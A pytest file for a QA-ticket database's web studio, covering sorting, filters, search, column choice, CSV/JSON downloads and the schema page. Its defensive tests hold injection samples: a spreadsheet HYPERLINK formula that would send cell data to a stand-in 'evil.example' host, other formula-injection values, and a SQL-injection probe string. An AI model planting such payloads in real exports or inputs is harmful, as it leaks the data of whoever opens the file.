"""Lists as one asks for them: sorted, searched, filtered by several values and none, with chosen columns, and as files."""

import csv
import io
import json
import re
from decimal import Decimal
from html import unescape
from typing import Any

import httpx
import pytest

from derwin_db import Database, repos
from derwin_db.filters import IS_NULL, not_
from derwin_db.models import Project, QATicketCreate, Severity, TicketStatus
from derwin_db.studio import download
from derwin_db.studio.download import cell
from derwin_db.studio.views import VIEWS
from derwin_db.testing import Filled
from derwin_db.testing.examples import example
from tests.studio.test_pages import LIFELINE, next_page, row_links, words

TICKETS = f"{LIFELINE}/tables/qa_tickets"


def ids(html: str) -> list[str]:
    return [link.rpartition("/")[2] for link in row_links(html)]


def headings(html: str) -> list[str]:
    found = re.findall(r'<th scope="col"[^>]*>(.*?)</th>', html.partition("<tbody>")[0])
    return [re.sub(r"<span.*|<[^>]*>", "", text) for text in found]


async def all_pages(client: httpx.AsyncClient, page: str | None, **params: Any) -> list[str]:
    seen: list[str] = []
    while page:
        text = (await client.get(page, params=params or None)).text
        seen += ids(text)
        page, params = next_page(text), {}
    return seen


class TestOrder:
    @pytest.mark.parametrize(
        ("table", "order"),
        [(name, order) for name, view in VIEWS.items() for order in view.orders if "created_at" not in order],
    )
    async def test_is_that_of_the_repository(
        self, client: httpx.AsyncClient, data: Database, ours: Filled, table: str, order: str
    ) -> None:
        async with data.project(ours.slug, read_only=True) as session:
            expected = (await VIEWS[table].repository.list(session, order=order)).items
        shown = await all_pages(client, f"p/{ours.slug}/tables/{table}", order=order, limit=2)
        assert shown == [str(row.id) for row in expected]

    async def test_a_heading_turns_it_round_and_says_which_it_is(self, client: httpx.AsyncClient) -> None:
        page, seen = TICKETS, []
        for _ in range(3):
            text = (await client.get(page)).text
            seen.append(re.findall(r'aria-sort="(\w+)"><a href="/[^/]+/([^"]+)">(\w+)', text))
            heading = re.search(r'<th scope="col" class="number"[^>]*><a href="/[^/]+/([^"]+)">Risk score', text)
            assert heading is not None
            page = unescape(heading[1])
        assert [[(direction, name) for direction, _, name in found] for found in seen] == [
            [("descending", "Created")],
            [("descending", "Risk")],
            [("ascending", "Risk")],
        ]

    async def test_columns_that_have_no_order_lead_nowhere(self, client: httpx.AsyncClient) -> None:
        text = (await client.get(TICKETS)).text
        assert re.search(r'<th scope="col">Severity</th>', text)


class TestFilters:
    @pytest.mark.parametrize(
        ("query", "filters"),
        [
            ("status=OPEN&status=TRIAGED", {"status": [TicketStatus.OPEN, TicketStatus.TRIAGED]}),
            ("status=OPEN&is-not=status", {"status": not_(TicketStatus.OPEN)}),
            ("is-none=resolved_at", None),
            ("is-none=duplicate_of_id&severity=HIGH", {"duplicate_of_id": IS_NULL, "severity": Severity.HIGH}),
            ("is-none=duplicate_of_id&is-not=duplicate_of_id", {"duplicate_of_id": not_(IS_NULL)}),
            ("final_bucket=AUTO_FIX&is-none=final_bucket", {"final_bucket": ["AUTO_FIX", IS_NULL]}),
            ("min_risk_score=0.4&max_risk_score=.75", {"min_risk_score": 0.4, "max_risk_score": 0.75}),
            ("classification_prefix=co", {"classification_prefix": "co"}),
            ("classification=ui_bug&classification=security", {"classification": ["ui_bug", "security"]}),
        ],
    )
    async def test_several_values_none_and_bounds(
        self, client: httpx.AsyncClient, data: Database, query: str, filters: dict[str, Any] | None
    ) -> None:
        response = await client.get(f"{TICKETS}?{query}&limit=500")
        if filters is None:
            assert response.status_code == 422
            return
        async with data.project("lifeline", read_only=True) as session:
            expected = [str(row.id) async for row in repos.qa_tickets.stream(session, **filters)]
        assert 0 < len(expected) < 80
        assert ids(response.text) == expected

    async def test_each_is_a_chip_that_takes_it_away(self, client: httpx.AsyncClient) -> None:
        text = (await client.get(f"{TICKETS}?status=OPEN&status=TRIAGED&min_risk_score=0.2&order=risk_score")).text
        chips = re.findall(r'aria-label="Remove: ([^"]+)"', text)
        links = [unescape(link) for link in re.findall(r'<li><a href="/[^/]+/([^"]+)" aria-label="Remove', text)]
        assert chips == ["Status is OPEN", "Status is TRIAGED", "Risk score at least 0.2"]
        assert [link.partition("?")[2] for link in links] == [
            "status=TRIAGED&min_risk_score=0.2&order=risk_score",
            "status=OPEN&min_risk_score=0.2&order=risk_score",
            "status=OPEN&status=TRIAGED&order=risk_score",
        ]

    async def test_keep_the_order_and_the_length_of_the_list(self, client: httpx.AsyncClient) -> None:
        for query, kept in (
            ("order=risk_score&limit=7", [("order", "risk_score"), ("limit", "7")]),
            ("order=-created_at&limit=50", []),
        ):
            text = (await client.get(f"{TICKETS}?{query}")).text
            assert re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', text) == kept

    async def test_that_nothing_matches_say_so_and_lead_back(self, client: httpx.AsyncClient, empty: Project) -> None:
        for query in (
            "status=WONT_FIX&severity=LOW&classification=none",
            "is-none=final_bucket&status=WONT_FIX&classification=none",
        ):
            text = (await client.get(f"{TICKETS}?{query}")).text
            assert ("No row matches." in text, "No rows yet." in text) == (True, False)
        text = (await client.get(f"p/{empty.slug}/tables/qa_tickets")).text
        assert ("No row matches." in text, "No rows yet." in text) == (False, True)

    async def test_have_a_first_page(self, client: httpx.AsyncClient) -> None:
        first = (await client.get(f"{TICKETS}?order=risk_score&limit=7")).text
        link = next_page(first)
        assert link is not None
        second = (await client.get(link)).text
        back = re.search(r'<a class="button" href="/[^/]+/([^"]+)">First page</a>', second)
        assert back is not None
        assert ids((await client.get(unescape(back[1]))).text) == ids(first)
        assert ">First page</a>" not in first

    async def test_a_chip_has_what_was_typed_as_it_was_typed(self, client: httpx.AsyncClient) -> None:
        query = {"fingerprint": "JIRA_12", "status": "FIX_PROPOSED", "with-words": "HTTP"}
        text = (await client.get(TICKETS, params=query)).text
        shown = re.findall(r'aria-label="Remove: [^"]+">([^<]+) <b>([^<]*)</b>', text)
        assert shown == [("Words", "HTTP"), ("Fingerprint is", "JIRA_12"), ("Status is", "Fix proposed")]

    async def test_says_how_many_rows_there_are(self, client: httpx.AsyncClient, ours: Filled) -> None:
        for table, view in VIEWS.items():
            text = (await client.get(f"p/{ours.slug}/tables/{table}?limit=1")).text
            total = re.search(r'<p id="total">\s*([\d,]*) rows?\b', text)
            assert total is not None, table
            assert int(total[1].replace(",", "")) == len(ours.rows[view.name]), table

    async def test_says_of_one_row_that_it_is_one(self, client: httpx.AsyncClient, ours: Filled) -> None:
        page = f"p/{ours.slug}/tables/project_profiles"
        for query, total in (("", "1 row"), ("?since=2000-01-01", "1 row matches"), ("?until=2000-01-01", "0 rows match")):
            text = (await client.get(f"{page}{query}")).text
            found = re.search(r'<p id="total">([^<]*)</p>', text)
            assert found is not None
            assert found[1].strip() == total
            assert ("<span>1 row shown</span>" in text) == total.startswith("1")

    async def test_what_is_wrong_stays_beside_its_reason(self, client: httpx.AsyncClient) -> None:
        query = {"min_risk_score": "1.5", "status": "OPEN", "since": "soon", "with-words": "cent"}
        response = await client.get(TICKETS, params=query)
        text = response.text
        assert (response.status_code, 'role="alert"' in text) == (422, True)
        for name, value in (("min_risk_score", "1.5"), ("since", "soon")):
            field = re.search(rf'<input name="{name}" value="([^"]*)"[^>]*aria-invalid="true" aria-describedby="([^"]+)"', text)
            assert field is not None, name
            assert field[1] == value
            assert f'<p class="wrong" id="{field[2]}">' in text
        assert '<input type="checkbox" name="status" value="OPEN" checked>' in text
        assert 'name="with-words" value="cent"' in text
        assert '<details class="panel" name="panel" open>' in text


class TestWords:
    async def test_are_searched_by_the_repository(self, client: httpx.AsyncClient, data: Database) -> None:
        async with data.project("lifeline", read_only=True) as session:
            expected = (await repos.qa_tickets.search(session, "tax invoice", status=TicketStatus.RESOLVED)).items
        response = await client.get(TICKETS, params={"with-words": "tax invoice", "status": "RESOLVED"})
        assert ids(response.text) == [str(row.id) for row in expected]
        assert len(expected) > 1
        assert await all_pages(client, TICKETS, **{"with-words": "tax invoice", "status": "RESOLVED", "limit": 2}) == [
            str(row.id) for row in expected
        ]

    async def test_find_past_fixes_without_an_embedding(self, client: httpx.AsyncClient, data: Database) -> None:
        async with data.project("lifeline", read_only=True) as session:
            expected = await repos.rag_corpus.search(session, text="contrast banner", limit=50, classification="accessibility")
        query = {"with-words": "contrast banner", "classification": "accessibility"}
        response = await client.get(f"{LIFELINE}/tables/rag_corpus", params=query)
        assert expected
        assert ids(response.text) == [str(match.entry.id) for match in expected]

    @pytest.mark.parametrize("text", ["%", "\\", "' OR 1=1 --", "!", "&", "(a"])
    async def test_signs_are_no_operators(self, client: httpx.AsyncClient, text: str) -> None:
        assert (await client.get(TICKETS, params={"with-words": text})).status_code == 200


class TestColumns:
    async def test_are_those_that_are_chosen(self, client: httpx.AsyncClient) -> None:
        query = {"with-column": ["title", "external_ref", "run_id", "steps_to_reproduce"], "order": "-risk_score", "limit": 5}
        response = await client.get(TICKETS, params=query)
        assert headings(response.text) == ["Title", "Run", "Steps to reproduce", "External ref"]
        link = next_page(response.text)
        assert link is not None
        assert headings((await client.get(link)).text) == headings(response.text)

    async def test_references_read_as_what_they_lead_to(self, client: httpx.AsyncClient, data: Database) -> None:
        async with data.project("lifeline", read_only=True) as session:
            signal = (await repos.raw_signals.list(session, ticket_id=not_(IS_NULL), limit=1)).items[0]
            assert signal.ticket_id is not None
            ticket = await repos.qa_tickets.get(session, signal.ticket_id)
        text = (await client.get(f"{LIFELINE}/tables/raw_signals")).text
        found = re.search(rf'<a href="/[^/]+/{TICKETS}/{ticket.id}">([^<]*)</a>', text)
        assert found is not None
        assert unescape(found[1]).removesuffix("…") in ticket.title

    async def test_what_is_gone_leads_nowhere(self, client: httpx.AsyncClient, data: Database, ours: Filled) -> None:
        for row in ours.rows["spend_ledger"]:
            text = (await client.get(f"p/{ours.slug}/tables/spend_ledger/{row.id}")).text
            async with data.project(ours.slug, read_only=True) as session:
                is_there = bool(row.ticket_id) and await repos.qa_tickets.exists(session, row.ticket_id)
            assert (f"qa_tickets/{row.ticket_id}" in text) == is_there


class TestDownloads:
    async def test_hold_what_is_shown(self, client: httpx.AsyncClient, data: Database) -> None:
        query = {"status": "RESOLVED", "order": "-risk_score", "with-column": ["title", "risk_score", "created_at"]}
        async with data.project("lifeline", read_only=True) as session:
            page = await repos.qa_tickets.list(session, status=TicketStatus.RESOLVED, order="-risk_score", limit=500)
        as_csv, as_json = [await client.get(f"{TICKETS}.{form}", params=query) for form in ("csv", "json")]
        assert as_csv.headers["content-disposition"] == 'attachment; filename="lifeline-qa_tickets.csv"'
        assert as_csv.headers["content-type"] == "text/csv; charset=utf-8"
        lines = list(csv.reader(io.StringIO(as_csv.text, newline="")))
        assert lines[0] == ["id", "title", "risk_score", "created_at"]
        assert lines[1:] == [[str(t.id), t.title, str(t.risk_score), t.created_at.isoformat()] for t in page.items]
        rows = json.loads(as_json.text)
        assert [(row["id"], row["title"], row["risk_score"]) for row in rows] == [
            (str(t.id), t.title, t.risk_score) for t in page.items
        ]

    async def test_have_what_words_find_in_its_order(self, client: httpx.AsyncClient, data: Database) -> None:
        async with data.project("lifeline", read_only=True) as session:
            word = (await repos.rag_corpus.list(session, limit=1)).items[0].problem.split()[0]
            found = await repos.rag_corpus.search(session, text=word, limit=500)
        answer = await client.get(f"{LIFELINE}/tables/rag_corpus.json", params={"with-words": word})
        assert [row["id"] for row in json.loads(answer.text)] == [str(match.entry.id) for match in found] != []

    async def test_have_all_pages_of_what_words_find(
        self, inside: httpx.AsyncClient, data: Database, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        async with data.project("lifeline", read_only=True) as session:
            found = (await repos.qa_tickets.search(session, "tax invoice", limit=100)).items
        monkeypatch.setattr(download, "_BATCH", 2)
        query = {"with-words": "tax invoice", "limit": 1}
        answer = await inside.get(f"{TICKETS}.json", params=query)
        assert answer.headers["content-type"] == "application/json"
        assert [row["id"] for row in answer.json()] == [str(ticket.id) for ticket in found]
        assert len(found) > 4
        monkeypatch.setattr(download, "MOST_ROWS", 3)
        assert (await inside.get(f"{TICKETS}.json", params=query)).json() == answer.json()[:3]

    async def test_are_not_read_where_nobody_takes_them(
        self, inside: httpx.AsyncClient, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        whole = await inside.get(f"{TICKETS}.csv")

        def read(*_: object) -> None:
            raise AssertionError("rows are read")

        monkeypatch.setattr(download, "_rows", read)
        head = await inside.head(f"{TICKETS}.csv")
        assert (head.status_code, head.content, head.headers) == (200, b"", whole.headers)

    async def test_have_all_pages_up_to_a_bound(self, database, data: Database, monkeypatch: pytest.MonkeyPatch) -> None:
        from derwin_db.studio import create_app

        monkeypatch.setattr(download, "_BATCH", 7)
        async with Database(**database.urls) as db:
            transport = httpx.ASGITransport(app=create_app(db, token="secret"))
            async with httpx.AsyncClient(transport=transport, base_url="http://localhost/secret/") as inside:
                whole = json.loads((await inside.get(f"{TICKETS}.json")).text)
                monkeypatch.setattr(download, "MOST_ROWS", 23)
                some = json.loads((await inside.get(f"{TICKETS}.json")).text)
        assert (len(whole), len({row["id"] for row in whole})) == (80, 80)
        assert some == whole[:23]

    @pytest.mark.parametrize(
        ("value", "expected"),
        [
            ("=1+1", "'=1+1"),
            ("+1", "'+1"),
            ("-1", "'-1"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("\n=1", "'\n=1"),
            ("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1"),
            ("a=1", "a=1"),
            ("", ""),
            (None, ""),
            (Decimal("-0.000001"), "-0.000001"),
            (-1.5, "-1.5"),
            (True, "true"),
            ({"=a": "-b"}, '{"=a": "-b"}'),
            (Severity.HIGH, "HIGH"),
        ],
    )
    def test_no_cell_is_a_formula(self, value: Any, expected: str) -> None:
        assert cell(value) == expected

    async def test_a_formula_that_is_stored_comes_as_text(
        self, client: httpx.AsyncClient, data: Database, ours: Filled
    ) -> None:
        title = '=HYPERLINK("https://evil.example?"&A1,"x"),\r\n=1'
        async with data.project(ours.slug) as session:
            ticket = await repos.qa_tickets.create(session, example(QATicketCreate, title=title))
        try:
            page = f"p/{ours.slug}/tables/qa_tickets"
            lines = list(csv.reader(io.StringIO((await client.get(f"{page}.csv?with-column=title")).text, newline="")))
            rows = json.loads((await client.get(f"{page}.json?with-column=title")).text)
        finally:
            async with data.project(ours.slug) as session:
                await repos.qa_tickets.delete(session, ticket.id)
        assert [str(ticket.id), f"'{title}"] in lines
        assert {"id": str(ticket.id), "title": title} in rows

    async def test_no_other_form_or_table(self, client: httpx.AsyncClient) -> None:
        for page in (f"{TICKETS}.xml", f"{TICKETS}.", f"{LIFELINE}/tables/projects.csv"):
            assert (await client.get(page)).status_code == 404


class TestSchema:
    async def test_shows_every_column_of_every_table(self, client: httpx.AsyncClient) -> None:
        text = (await client.get(f"{LIFELINE}/schema")).text
        for name, view in VIEWS.items():
            section = text.partition(f'aria-labelledby="{name}"')[2].partition("</section>")[0]
            assert re.findall(r'<th scope="row"><code>(\w+)</code>', section) == [column.name for column in view.table.c]
            for target in set(view.references.values()):
                assert f'href="#{target}"' in section
        assert "a run, fingerprint" not in text
        assert "run_id, fingerprint" in words(text)
